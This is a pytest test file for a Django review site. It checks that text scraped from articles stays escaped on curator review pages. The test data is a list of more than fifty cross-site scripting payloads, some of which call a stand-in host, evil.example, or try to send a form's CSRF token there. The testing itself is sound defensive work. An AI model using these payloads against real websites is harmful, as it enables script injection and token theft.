"""Scraped words stay words: whatever a page says, the review pages never turn it into markup, link or script."""

from html.parser import HTMLParser

import pytest
from django.db import transaction
from django.test import Client
from django.utils.html import escape

from tests.builders import a_curator, a_link, a_version, an_article, an_estimate, an_incident

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<table background=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</mark><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</blockquote></article><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "` onmouseover=`alert(1)",
    "{{ 7|add:7 }}<script>",
    "{% load static %}<script>alert(1)</script>",
    "{{ request.user.password }}<b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<i>",
    "&#60;script&#62;alert(1)&#60;/script&#62;<u>",
    "%3Cscript%3Ealert(1)%3C/script%3E<s>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞<script>",
    "<script\u2028>alert(1)</script>",
    "<scr\u00adipt>alert(1)</script><script>",
]  # fmt: skip


def test_the_corpus_is_large_enough() -> None:
    assert len(set(HOSTILE)) >= 50


class _Structure(HTMLParser):
    """The tags of a page with the names of their attributes, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, *(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.tags.append((f"/{tag}",))


def structure(html: str) -> list[tuple[str, ...]]:
    reader = _Structure()
    reader.feed(html)
    return reader.tags


def page_with(words: str) -> str:
    """The review page of an article whose title, publisher, text, quote, names and notes are these words."""
    article = an_article(publisher=words[:200], review_state="to_review")
    version = a_version(f"Before {words} after.", article=article, title=words)
    incident = an_incident(title=words[:300])
    estimate = an_estimate(
        version=version, quote=words, claimant_name=words, scope=words[:200], note=words,
        why=[{"field": "bound", "rule": words}],
    )  # fmt: skip
    a_link(article, incident)
    an_estimate(incident=incident, claimant_name=words, review_state="curator_accepted")
    browser = Client()
    browser.force_login(a_curator())
    queue = browser.get("/admin/review/").content.decode()
    page = browser.get(f"/admin/review/{estimate.article.public_id}/").content.decode()
    typed = {"act": "edit", "fact": estimate.public_id, "version": 1, "quote": words, "claimant": words, "high": words}
    refused = browser.post(f"/admin/review/{estimate.article.public_id}/", typed).content.decode()
    return queue + page + refused


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_stay_words(words: str) -> None:
    with transaction.atomic():
        harmless = structure(page_with("harmless words"))
        transaction.set_rollback(True)
    html = page_with(words)
    assert words not in html or escape(words) == words
    assert escape(words)[:40] in html
    assert structure(html) == harmless
